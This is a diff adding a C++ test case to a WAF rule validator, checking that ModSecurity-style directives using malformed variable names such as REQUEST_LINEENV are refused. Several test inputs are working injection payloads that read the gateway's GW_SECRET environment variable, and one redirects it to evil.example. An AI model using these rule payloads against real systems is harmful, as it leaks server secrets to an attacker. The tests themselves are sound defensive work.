@@ -1212,6 +1212,50 @@ TEST_CASE("waf_directives' audit refuses a text the engine's lexer dropped chara
 // collection, inside a msg, which the engine then read as an action: the counts were equal, and a
 // tenant's rule wrote GLOBAL, IP, SESSION, USER or RESOURCE. expirevar (and deprecatevar) act on
 // the shared collections only, so they are refused.
+// The engine's lexer reads a variable's name with more letters after it as that name and what
+// follows, and a macro may hold several variables, whose values it joins: a review's fuzzing got
+// 77 texts accepted that read the gateway's environment (ENV) that way. The redirect below sent
+// the environment variable GW_SECRET to the client.
+TEST_CASE("waf_directives refuses variables that are not exactly one of the engine's names") {
+  const Bad bad[] = {
+      {"SecRule ARGS \"@rx 1\" "
+       "\"id:1,phase:1,redirect:https://evil.example/%{REMOTE_USERENV.GW_SECRET}\"",
+       "unknown variable 'REMOTE_USERENV'"},
+      {R"(SecRule ARGS "@rx 1" "id:1,phase:1,pass,msg:%{REQUEST_LINEENV.GW_SECRET}")",
+       "unknown variable 'REQUEST_LINEENV'"},
+      {R"(SecRule ARGS "@rx %{REMOTE_USERENV.GW_SECRET}" "id:1,phase:1,pass")", "unknown variable"},
+      {R"(SecRule ARGS "@rx 1" "id:1,phase:1,pass,logdata:'%{TIMEENV.GW_SECRET}'")",
+       "unknown variable 'TIMEENV'"},
+      {R"(SecRule ARGS "@rx 1" "id:1,phase:1,pass,tag:%{QUERY_STRINGEnv}")",
+       "unknown variable 'QUERY_STRINGEnv'"},
+      {R"(SecRule ARGS "@rx 1" "id:1,phase:1,pass,msg:%{Env:GW_SECRET}")", "variable ENV"},
+      {R"(SecRule REQUEST_LINEENV:GW_SECRET "TOP" "id:1,phase:1,deny,status:403")",
+       "unknown variable 'request_lineenv'"},
+      {R"(SecRule FILESENV "a-b" "id:1,phase:1,deny")", "unknown variable 'filesenv'"},
+      {R"(SecRule ARGS|TIMEEnv "a" "id:1,phase:1,deny")", "unknown variable 'timeenv'"},
+      {"SecRule ARGS \"@rx a\" \"id:1,pass\"\nSecRuleUpdateTargetById 1 REQUEST_LINEENV",
+       "unknown variable"},
+      {R"(SecRule NO_SUCH_THING "@rx a" "id:1,pass")", "unknown variable 'no_such_thing'"},
+      {R"(SecAction "id:1,pass,msg:%{nosuch.x}")", "unknown variable 'nosuch'"},
+  };
+  for (const auto& r : bad) {
+    CAPTURE(r.in);
+    expect_bad(waf_directives(r.in), r.why);
+  }
+  const Ok ok[] = {
+      {R"(SecRule REQUEST_HEADERS:User-Agent|!REQUEST_HEADERS:Referer|&TX:x|XML:/* "@rx a" )"
+       R"("id:1,pass,msg:'%{REQUEST_HEADERS.User-Agent} %{rule.id} %{tx.a_b-c} %{TX:0}'")"},
+      {R"(SecRule TIME_HOUR|MULTIPART_STRICT_ERROR|REQBODY_ERROR|remote_addr "@rx a" )"
+       R"("id:2,pass,logdata:'%{MATCHED_VAR_NAME}=%{matched_var}'")"},
+      // Keys may hold anything, ENV included: the engine reads them as keys.
+      {R"(SecRule ARGS:ENV|TX:myENV "@rx a" "id:3,pass,msg:'%{tx.ENV} %{ARGS:aENV}'")"},
+  };
+  for (const auto& r : ok) {
+    CAPTURE(r.in);
+    expect_ok(waf_directives(r.in));
+  }
+}
+
 TEST_CASE("waf_directives refuses expirevar, whose value the engine reads over later actions") {
   for (const std::string text : {
            "SecRule ARGS \"@rx a\" \"id:1,pass,expirevar:tx.a=1,setvar:tx.b=2\"",
